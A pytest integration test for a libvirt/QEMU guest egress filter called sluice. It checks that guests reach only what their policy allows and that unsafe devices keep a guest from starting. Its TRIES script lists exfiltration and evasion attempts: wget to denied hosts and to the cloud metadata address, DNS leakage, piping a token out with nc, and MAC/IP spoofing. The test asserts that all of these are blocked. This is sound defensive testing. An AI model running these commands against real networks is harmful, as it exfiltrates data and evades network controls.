# SPDX-License-Identifier: Apache-2.0
"""Guests of a real libvirt: a machine under QEMU, attached by the hook as it starts."""
import os
import pathlib
import re
import socket
import subprocess
import threading

import pytest

import internet
import libvirt
import machine
import netns
import sluice
import stage
from netns import call, wait_for
from stage import ZONE

REC, DENIED = f"rec.{ZONE}", f"denied.{ZONE}"
PAGE = stage.TOP / "docs/libvirt.md"
METADATA = "<metadata><s:guest xmlns:s='https://sluice.internal/guest' policy='{}'/></metadata>"
# Files of a libvirtd that has no system around it
QEMU = """user = "root"
group = "root"
security_driver = "none"
cgroup_controllers = []
namespaces = []
remember_owner = 0
stdio_handler = "file"
"""


def follow(part):
    """Do what the page says under that name, as root in the folder of the sources."""
    blocks = re.findall(rf"^```sh {part}\n(.*?)^```$", PAGE.read_text(), re.M | re.S)
    assert blocks
    done = subprocess.run(["sh", "-ec", "".join(blocks)], cwd=stage.TOP, text=True, timeout=60,
                          stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                          env=netns.root_env(PATH=libvirt.path(), LIBVIRT_DEFAULT_URI="qemu:///system"))
    assert done.returncode == 0, done.stdout
    return done.stdout


@pytest.fixture(scope="module")
def daemon(world):
    one = netns.Daemon()
    yield one
    one.end()


@pytest.fixture(scope="module")
def virt(world, daemon):
    pathlib.Path("/etc/libvirt/qemu.conf").write_text(QEMU)
    follow("before")
    one = libvirt.Libvirt()
    follow("setup")
    yield one
    one.end()


@pytest.fixture
def service(world):
    """A service of the host's, on all of its addresses; who came."""
    came = []
    with socket.create_server(("::", 8099), family=socket.AF_INET6, dualstack_ipv6=True) as s:
        def serve():
            while True:
                try:
                    client, where = s.accept()
                except OSError:
                    return
                came.append(where)
                client.close()
        threading.Thread(target=serve, daemon=True).start()
        yield came
        s.shutdown(socket.SHUT_RDWR)


TRIES = """
udhcpc -i eth0 -n -q -s /lease
wget http://{rec}/{token}-ok && echo allowed-passes
bad={token}-bad
wget http://{denied}/$bad
for at in {addresses}; do wget http://$at/$bad; done
nslookup $bad.{denied} {other_dns}
echo $bad | nc -w 2 {recorder} 9999
ping -c 1 -W 1 {recorder}
ping -c 1 -W 1 192.168.101.11
arping -c 1 -w 1 -I eth0 192.168.101.11
ip -6 addr add fd00:1::2/64 dev eth0
ip -6 route add default via fe80::1 dev eth0
wget "http://[{recorder6}]/$bad"
mac=$(cat /sys/class/net/eth0/address)
ip link set eth0 down; ip link set eth0 address 52:54:00:00:00:99; ip link set eth0 up
ip route add default via 192.168.101.1
wget http://{rec}/$bad
ip link set eth0 down; ip link set eth0 address $mac; ip link set eth0 up
ip addr flush dev eth0; ip addr add 192.168.101.66/24 dev eth0; ip route add default via 192.168.101.1
wget http://{rec}/$bad
ip addr flush dev eth0
udhcpc -i eth0 -n -q -s /lease
wget http://{rec}/{token}-again && echo still-passes
"""


def test_guest_reaches_what_its_policy_names(world, virt, daemon, service, token):
    start = world.wire.mark()
    socket.create_connection((internet.HOME4, 8099), 5).close()
    wait_for(lambda: len(service) == 1)     # the positive control of what the guest does not reach
    guest = machine.Machine(virt, "web", TRIES.format(
        rec=REC, denied=DENIED, token=token, recorder=internet.RECORDER4, recorder6=internet.RECORDER6,
        other_dns=internet.OTHER_DNS4, addresses=" ".join([
            internet.RECORDER4, "169.254.169.254", "10.20.0.5", "192.168.101.1:8099",
            f"{internet.HOME4}:8099", "127.0.0.1:8099"])), guarded=True)
    told = follow("guest")
    assert re.search(r"^web +\d+ +filtered +hold ", told, re.M), told
    log = sorted(pathlib.Path("/var/lib/sluice/audit").glob("*-web.jsonl"))[-1]
    said = guest.wait()
    assert "lease: 192.168.101.10/24 192.168.101.1 192.168.101.1\n" in said
    assert "allowed-passes\n" in said and "still-passes\n" in said, said
    assert world.recorder.requests(f"{token}-ok".encode())
    assert not world.recorder.arrived(f"{token}-bad".encode())
    assert not world.wire.carries(f"{token}-bad".encode(), start)
    assert not world.other_dns.asked(token) and len(service) == 1
    wait_for(lambda: not daemon.held("web"))
    events = sluice.read_log(log)
    assert {"no_rule", "ip_literal", "special_address"} <= {e["reason"] for e in events
                                                           if e.get("verdict") == "deny"}
    assert {"icmp", "icmpv6"} <= {e["proto"] for e in events if e["event"] == "packet.drop"}
    assert events[-2]["event"] == "session.end"


def rooms():
    return [p for p in pathlib.Path("/proc").glob("[0-9]*/comm") if p.read_text() == "sluice-room\n"]


@pytest.mark.parametrize("metadata, devices, why", [
    (METADATA.format("absent"), "", "absent.yaml"),
    (METADATA.format("web"), "<shmem name='x'><model type='ivshmem-plain'/><size unit='M'>4</size></shmem>",
     "<shmem> would be a way out"),
    (METADATA.format("web"), "<serial type='tcp'><source mode='bind' host='127.0.0.1' service='8123'/></serial>",
     "<serial type='tcp'> would be a way out"),
    ("", "<interface type='network'><source network='agent-nat-filtered'/></interface>", "it has 2 interfaces")],
    ids=["policy", "shmem", "serial", "interfaces"])
def test_guest_that_cannot_be_attached_does_not_start(virt, daemon, metadata, devices, why):
    guest = machine.Machine(virt, "bad", "", metadata=metadata, devices=devices)
    done = guest.start()
    assert done.returncode and why in done.stdout, done.stdout
    assert not guest.runs() and not daemon.held("bad") and not rooms()
    virt.virsh("undefine", "bad")


def test_guest_does_not_start_without_the_daemon(virt, daemon):
    daemon.kill()
    guest = machine.Machine(virt, "late", "", metadata=METADATA.format("web"))
    done = guest.start()
    assert done.returncode and "the daemon does not run" in done.stdout
    assert not guest.runs() and not rooms()
    daemon.start()


def test_guest_that_runs_is_attached_by_hand_and_detached(world, virt, daemon, token):
    virt.define("net-define", "<network><name>plain</name><bridge name='virbr-plain'/></network>")
    virt.virsh("net-start", "plain")
    guest = machine.Machine(virt, "web2", f"""
until udhcpc -i eth0 -n -q -t 2 -T 1 -s /lease; do echo waits; done
i=0
while [ $i -lt 600 ]; do wget http://{DENIED}/{token}; i=$((i+1)); sleep 0.1; done
""", network="plain")
    assert guest.start().returncode == 0 and not daemon.held("web2")
    wait_for(lambda: "waits" in guest.said(), 60)
    for wrong in ["--mode", "open"], ["-p", "/none.yaml"], ["--label", "x"]:   # and it keeps its interface
        assert call("attach", "--vm", "web2", *wrong).code == 125
    done = call("attach", "--vm", "web2", "--mode", "bridge")
    assert done.code == 0 and done.out == "web2\n" and "mode monitor" in done.err, done
    assert daemon.held("web2")["mode"] == "bridge"
    wait_for(lambda: len(world.recorder.requests(token.encode())) >= 2, 30)
    assert call("detach", "web2").code == 0
    start = world.wire.mark()
    wait_for(lambda: not daemon.held("web2"))
    tried = guest.said().count("you asked")
    world.wire.settle()
    assert not world.wire.carries(token.encode(), start) and guest.said().count("you asked") == tried
    again = call("attach", "--vm", "web2")
    assert again.code == 125 and "start the guest anew" in again.err
    assert len(rooms()) == 1
    virt.virsh("destroy", "web2")
    wait_for(lambda: not rooms())
